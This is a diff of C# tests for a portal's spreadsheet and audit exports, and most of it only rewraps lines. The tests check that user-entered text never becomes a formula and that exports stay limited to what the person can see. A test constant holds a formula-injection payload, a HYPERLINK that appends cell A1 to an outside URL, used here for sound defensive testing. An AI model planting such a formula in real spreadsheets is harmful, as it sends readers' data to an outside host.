@@ -12,7 +12,8 @@ using Portal.Web.Texts;
 
 namespace Portal.Tests.Web;
 
-/// <summary>Files for a spreadsheet program: nothing that somebody wrote becomes a formula, and the trail goes out only as far as one sees it.</summary>
+/// <summary>Files for a spreadsheet program: nothing that somebody wrote becomes a formula, and the trail goes out only as far as one sees
+/// it.</summary>
 public class ExportTests
 {
     private const string Formula = "=HYPERLINK(\"http://ngoai.vn/?\"&A1,\"Bấm\")";
@@ -43,7 +44,8 @@ public class ExportTests
     {
         await using var portal = await TestPortal.CreateAsync();
         var cycle = await portal.CycleAsync("A017");
-        await portal.PassedOnAsync(await portal.AreaCaseAsync(cycle), Reviews.Proposal(suggestions: Reviews.Suggestion() with { Matter = Formula }));
+        await portal.PassedOnAsync(
+            await portal.AreaCaseAsync(cycle), Reviews.Proposal(suggestions: Reviews.Suggestion() with { Matter = Formula }));
         var view = (await portal.Services.GetRequiredService<ReviewCycles>().DossierAsync(portal.Person(Reviews.Coordinator), cycle)).Value;
         var context = await portal.Operations.ContextAsync(portal.Person(Reviews.Coordinator));
         var documents = portal.Services.GetRequiredService<ReviewDocuments>();
@@ -70,7 +72,10 @@ public class ExportTests
         Assert.Equal("Reading", rows[0].Details);
         var own = await audit.ExportAsync(portal.Person(Trips.Member), new AuditFilter { PersonId = Trips.Leader });
         Assert.Equal([Trips.Member], own.Select(r => r.PersonId).Distinct());
-        Assert.Equal([("Audit.Exported", Trips.Head)], (await audit.ExportAsync(portal.Person(Trips.Head), readings with { PersonId = Trips.Head, From = VietnamTime.DayOf(portal.Now), To = VietnamTime.DayOf(portal.Now) })).Skip(1).Select(r => (r.Act, r.PersonId)));
+        Assert.Equal([("Audit.Exported", Trips.Head)],
+            (await audit.ExportAsync(portal.Person(Trips.Head),
+                readings with { PersonId = Trips.Head, From = VietnamTime.DayOf(portal.Now),
+                To = VietnamTime.DayOf(portal.Now) })).Skip(1).Select(r => (r.Act, r.PersonId)));
 
         var context = await portal.Operations.ContextAsync(portal.Person(Trips.Head));
         var cells = AssertOnlyTexts(AuditSheet.Write(rows, context.Directory, portal.Services.GetRequiredService<Localizer>()), Formula);
@@ -84,12 +89,21 @@ public class ExportTests
     {
         using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
         var cells = document.WorkbookPart!.WorksheetParts.SelectMany(s => s.Worksheet!.Descendants<Cell>()).ToList();
-        var shared = document.WorkbookPart.SharedStringTablePart?.SharedStringTable?.Elements<SharedStringItem>().Select(i => i.InnerText).ToList() ?? [];
+        var shared = document.WorkbookPart.SharedStringTablePart
+            ?.SharedStringTable
+            ?.Elements<SharedStringItem>()
+            .Select(i => i.InnerText)
+            .ToList() ?? [];
         Assert.NotEmpty(cells);
         Assert.DoesNotContain(cells, c => c.CellFormula is not null);
-        var texts = cells.Select(c => c.DataType?.Value == CellValues.SharedString ? shared[int.Parse(c.InnerText, System.Globalization.CultureInfo.InvariantCulture)] : c.InnerText).ToList();
+        var texts = cells
+            .Select(c => c.DataType?.Value == CellValues.SharedString
+                ? shared[int.Parse(c.InnerText, System.Globalization.CultureInfo.InvariantCulture)]
+                : c.InnerText)
+            .ToList();
         Assert.Contains(texts, t => t.Contains(expected.Trim(), StringComparison.Ordinal));
-        Assert.All(cells.Where(c => c.InnerText.Contains(expected.Trim(), StringComparison.Ordinal)), c => Assert.Contains(c.DataType!.Value, new[] { CellValues.String, CellValues.InlineString, CellValues.SharedString }));
+        Assert.All(cells.Where(c => c.InnerText.Contains(expected.Trim(), StringComparison.Ordinal)),
+            c => Assert.Contains(c.DataType!.Value, new[] { CellValues.String, CellValues.InlineString, CellValues.SharedString }));
         return texts;
     }
 }
